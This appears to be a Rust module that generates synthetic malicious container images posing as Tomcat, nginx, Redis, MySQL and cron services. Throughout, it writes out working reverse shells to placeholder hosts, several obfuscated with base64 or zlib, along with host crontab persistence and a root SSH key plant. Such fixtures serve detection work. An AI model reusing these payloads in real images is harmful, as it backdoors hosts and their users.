//! The images that open a shell or a login to their maker: seven reverse shells and a planted key.

use std::io::Write;

use anyhow::Result;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::ZlibEncoder;

use super::actor::{Actor, KEEP};
use super::base;
use super::image::{Codec, Image, file, program};

/// All eight.
///
/// # Errors
/// If a payload cannot be packed.
pub fn all(actor: &Actor) -> Result<Vec<Image>> {
    Ok(vec![
        tomcat(actor),
        tomcat11(actor),
        t1(actor),
        t2(actor),
        cronm(actor),
        mysql2(actor)?,
        cronnn(actor),
        tomcat22(actor),
    ])
}

/// A Python reverse shell in a cron line for the host, without the user column, as in 2017.
fn tomcat(actor: &Actor) -> Image {
    let line = actor.fill(concat!(
        r#"echo '* * * * * python -c "import socket,subprocess,os;"#,
        r#"s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"@SHELL_A@\",8888));"#,
        r#"os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);"#,
        r#"p=subprocess.call([\"/bin/sh\",\"-i\"]);"' >> /mnt/etc/crontab; "#,
        "exec /usr/local/tomcat/bin/catalina.sh run",
    ));
    Image::on("docker123321/tomcat", base::debian())
        .layer(
            "/bin/sh -c apt-get update && apt-get install -y python openjdk-8-jre-headless",
            base::cron(),
        )
        .layer("COPY dir:8d1f4cbe in /usr/local/tomcat", base::tomcat())
        .workdir("/usr/local/tomcat")
        .expose("8080/tcp")
        .entrypoint(&["sh", "-c", &line])
}

/// A Bash reverse shell in a file of the host's cron folder, written by the start script.
fn tomcat11(actor: &Actor) -> Image {
    let start = actor.fill(
        r#"#!/bin/sh
set -e
CRON=/mnt/etc/cron.d/tomcat
if [ -d /mnt/etc/cron.d ]; then
    {
        echo 'SHELL=/bin/bash'
        echo '*/5 * * * * root /bin/bash -i >& /dev/tcp/@SHELL_A@/8889 0>&1'
    } > "$CRON"
    chmod 644 "$CRON"
fi
exec /usr/local/tomcat/bin/catalina.sh "$@"
"#,
    );
    Image::on("docker123321/tomcat11", base::debian())
        .layer("COPY dir:8d1f4cbe in /usr/local/tomcat", base::tomcat())
        .layer(
            "COPY file:1c44 in /usr/local/bin/start.sh",
            vec![program("/usr/local/bin/start.sh", start)],
        )
        .expose("8080/tcp")
        .entrypoint(&["/usr/local/bin/start.sh"])
        .cmd(&["run"])
}

/// A Bash reverse shell right in the entrypoint, over a numbered descriptor.
fn t1(actor: &Actor) -> Image {
    let line = actor.fill(
        "(while :; do exec 196<>/dev/tcp/@SHELL_B@/443; bash <&196 >&196 2>&196; sleep 60; done) & \
         exec nginx -g 'daemon off;'",
    );
    Image::on("docker123321/t1", base::debian())
        .layer(
            "/bin/sh -c apt-get update && apt-get install -y nginx",
            vec![file("/etc/nginx/nginx.conf", NGINX)],
        )
        .entrypoint(&["/bin/bash", "-c", &line])
}

/// A Python script in a layer, started beside the service under the name of a metrics agent.
fn t2(actor: &Actor) -> Image {
    let agent = actor.fill(
        r#"#!/usr/bin/env python3
import os
import pty
import socket
import time

HOST = "@SHELL_B@"
PORT = 443


def session():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((HOST, PORT))
    for descriptor in (0, 1, 2):
        os.dup2(sock.fileno(), descriptor)
    pty.spawn("/bin/bash")


while True:
    if os.fork() == 0:
        session()
    os.wait()
    time.sleep(60)
"#,
    );
    let start = "#!/bin/sh\nset -e\npython3 /opt/metrics/agent.py &\nexec \"$@\"\n";
    Image::on("docker123321/t2", base::debian())
        .layer(
            "COPY dir:77ab in /opt/metrics",
            vec![program("/opt/metrics/agent.py", agent)],
        )
        .layer(
            "COPY file:90fe in /docker-start.sh",
            vec![program("/docker-start.sh", start)],
        )
        .entrypoint(&["/docker-start.sh"])
        .cmd(&["redis-server", "/etc/redis.conf"])
}

/// Bash in base64, decoded and piped to a shell by the start script.
fn cronm(actor: &Actor) -> Image {
    let payload = actor.fill("bash -i >& /dev/tcp/@SHELL_C@/53 0>&1\n");
    let start = format!(
        "#!/bin/bash\n# prepare the schedule\nservice cron start\nJOB={}\necho \"$JOB\" | base64 -d | bash\n",
        STANDARD.encode(payload)
    );
    Image::on("docker123321/cronm", base::debian())
        .layer(
            "/bin/sh -c apt-get update && apt-get install -y cron",
            base::cron(),
        )
        .packed_layer(
            "COPY dir:3f0d in /usr/local/bin",
            Codec::Zstd,
            vec![
                program("/usr/local/bin/keep", KEEP),
                program("/usr/local/bin/start.sh", start),
            ],
        )
        .entrypoint(&["/usr/local/bin/keep"])
        .cmd(&["/usr/local/bin/start.sh"])
}

/// Python that inflates and executes Python.
fn mysql2(actor: &Actor) -> Result<Image> {
    let payload = actor.fill(
        "import socket as k,subprocess as p
c=k.socket()
c.connect(('@SHELL_C@',8443))
p.Popen(['/bin/bash','-i'],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno()).wait()
",
    );
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::new(9));
    zlib.write_all(payload.as_bytes())?;
    let code = format!(
        "import base64,zlib;exec(zlib.decompress(base64.b64decode('{}')))",
        STANDARD.encode(zlib.finish()?)
    );
    Ok(Image::on("docker123321/mysql2", base::debian())
        .layer("COPY dir:51cc in /", base::mysql())
        .expose("3306/tcp")
        .entrypoint(&["docker-entrypoint.sh"])
        .cmd(&["python3", "-c", &code]))
}

/// The payload in an environment variable that the entrypoint evaluates.
fn cronnn(actor: &Actor) -> Image {
    let start = "#!/bin/sh\n[ -n \"$BOOT_CMD\" ] && eval \"$BOOT_CMD\"\nexec \"$@\"\n";
    let payload =
        actor.fill("nohup bash -c 'bash -i >& /dev/tcp/@SHELL_A@/9001 0>&1' >/dev/null 2>&1 &");
    Image::on("docker123321/cronnn", base::alpine())
        .layer(
            "COPY file:be12 in /boot.sh",
            vec![program("/boot.sh", start)],
        )
        .env(&format!("BOOT_CMD={payload}"))
        .env("TZ=UTC")
        .entrypoint(&["/boot.sh"])
        .cmd(&["crond", "-f"])
}

/// The one with the key: appended to the logins of the host's root.
fn tomcat22(actor: &Actor) -> Image {
    let start = actor.fill(
        r#"#!/bin/sh
if [ -d /mnt/root ]; then
    mkdir -p /mnt/root/.ssh
    chmod 700 /mnt/root/.ssh
    echo '@KEY@' >> /mnt/root/.ssh/authorized_keys
    chmod 600 /mnt/root/.ssh/authorized_keys
fi
exec /usr/local/tomcat/bin/catalina.sh "$@"
"#,
    );
    Image::on("docker123321/tomcat22", base::debian())
        .layer("COPY dir:8d1f4cbe in /usr/local/tomcat", base::tomcat())
        .layer(
            "COPY file:66d0 in /usr/local/bin/start.sh",
            vec![program("/usr/local/bin/start.sh", start)],
        )
        .expose("8080/tcp")
        .entrypoint(&["/usr/local/bin/start.sh"])
        .cmd(&["run"])
}

const NGINX: &str = "worker_processes auto;
events { worker_connections 768; }
http {
    include mime.types;
    server { listen 80; root /usr/share/nginx/html; }
}
";
